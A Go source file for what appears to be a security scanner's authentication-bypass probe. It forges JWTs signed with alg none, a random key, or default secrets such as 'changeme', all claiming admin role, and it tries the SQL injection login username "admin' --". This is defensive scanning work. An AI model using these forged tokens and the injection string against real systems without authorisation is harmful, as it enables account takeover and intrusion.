package probe

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/MGTheTrain/scan-warden/internal/domain/findings"
	"github.com/golang-jwt/jwt/v5"
)

// well known placeholder secrets found in sample code and tutorials
var defaultSecrets = []string{
	"secret",
	"changeme",
	"your-secret-key-here",
	"your-256-bit-secret",
}

// bypassUsername comments out the password clause of a naively built query
const bypassUsername = "admin' --"

type bypassCase struct {
	rule  string
	name  string
	cwe   string
	token func() (string, error)
}

type authCheck struct {
	protectedPaths []string
	loginPath      string
}

// NewAuthBypassCheck calls each protected path without a token and with forged
// bearer tokens, and tries an injection style login. Any 2xx response is a bypass.
func NewAuthBypassCheck(protectedPaths []string, loginPath string) Check {
	return &authCheck{protectedPaths: protectedPaths, loginPath: loginPath}
}

func (c *authCheck) Name() string {
	return "auth"
}

func (c *authCheck) Run(ctx context.Context, client *http.Client, target string) ([]*findings.Finding, error) {
	var out []*findings.Finding

	cases := bypassCases()
	for _, path := range c.protectedPaths {
		rawURL, err := resolve(target, path, nil)
		if err != nil {
			return out, err
		}

		for _, bc := range cases {
			header := http.Header{}
			if bc.token != nil {
				token, err := bc.token()
				if err != nil {
					return out, fmt.Errorf("failed to mint %s token: %w", bc.name, err)
				}
				header.Set("Authorization", "Bearer "+token)
			}

			resp, err := do(ctx, client, http.MethodGet, rawURL, nil, header)
			if err != nil {
				return out, err
			}
			if isSuccess(resp.status) {
				out = append(out, newFinding(
					"probe.auth."+bc.rule,
					fmt.Sprintf("Authentication bypass on %s: %s", path, bc.name),
					fmt.Sprintf("GET %s returned %d with %s", path, resp.status, bc.name),
					findings.SeverityCritical,
					bc.cwe,
					path,
					"https://owasp.org/Top10/A07_2021-Identification_and_Authentication_Failures/",
				))
			}
		}
	}

	if c.loginPath != "" {
		f, err := c.loginBypass(ctx, client, target)
		if err != nil {
			return out, err
		}
		if f != nil {
			out = append(out, f)
		}
	}
	return out, nil
}

// loginBypass posts an injection style username with a wrong password
func (c *authCheck) loginBypass(ctx context.Context, client *http.Client, target string) (*findings.Finding, error) {
	rawURL, err := resolve(target, c.loginPath, nil)
	if err != nil {
		return nil, err
	}

	body, err := json.Marshal(map[string]string{"username": bypassUsername, "password": "wrong_password"})
	if err != nil {
		return nil, err
	}
	header := http.Header{}
	header.Set("Content-Type", "application/json")

	resp, err := do(ctx, client, http.MethodPost, rawURL, bytes.NewReader(body), header)
	if err != nil {
		return nil, err
	}
	if !isSuccess(resp.status) || !strings.Contains(strings.ToLower(resp.body), "token") {
		return nil, nil
	}

	return newFinding(
		"probe.auth.login-injection",
		fmt.Sprintf("Authentication bypass on %s with SQL comment username", c.loginPath),
		fmt.Sprintf("POST %s with username %q and a wrong password returned %d and a token", c.loginPath, bypassUsername, resp.status),
		findings.SeverityCritical,
		"CWE-287",
		c.loginPath,
		"https://owasp.org/www-community/attacks/SQL_Injection_Bypassing_WAF",
	), nil
}

func bypassCases() []bypassCase {
	cases := []bypassCase{
		{rule: "no-authorization-header", name: "no authorization header", cwe: "CWE-287"},
		{rule: "alg-none-token", name: "alg none token", cwe: "CWE-347", token: noneToken},
		{rule: "wrong-key-token", name: "token signed with a wrong key", cwe: "CWE-347", token: func() (string, error) {
			key := make([]byte, 32)
			if _, err := rand.Read(key); err != nil {
				return "", err
			}
			return hs256Token(key, time.Now().Add(time.Hour))
		}},
	}
	// Expiry can only be tested with a key the server accepts, so expired tokens
	// are minted with each default secret. Servers with a private key are not covered.
	for _, secret := range defaultSecrets {
		secret := secret
		cases = append(cases,
			bypassCase{
				rule: "default-secret-token",
				name: fmt.Sprintf("token signed with default secret %q", secret),
				cwe:  "CWE-798",
				token: func() (string, error) {
					return hs256Token([]byte(secret), time.Now().Add(time.Hour))
				},
			},
			bypassCase{
				rule: "expired-token",
				name: fmt.Sprintf("expired token signed with default secret %q", secret),
				cwe:  "CWE-613",
				token: func() (string, error) {
					return hs256Token([]byte(secret), time.Now().Add(-time.Hour))
				},
			},
		)
	}
	return cases
}

func probeClaims(expiresAt time.Time) jwt.MapClaims {
	return jwt.MapClaims{
		"username": "admin",
		"role":     "admin",
		"iat":      time.Now().Add(-2 * time.Hour).Unix(),
		"exp":      expiresAt.Unix(),
	}
}

func noneToken() (string, error) {
	return jwt.NewWithClaims(jwt.SigningMethodNone, probeClaims(time.Now().Add(time.Hour))).
		SignedString(jwt.UnsafeAllowNoneSignatureType)
}

func hs256Token(key []byte, expiresAt time.Time) (string, error) {
	return jwt.NewWithClaims(jwt.SigningMethodHS256, probeClaims(expiresAt)).SignedString(key)
}
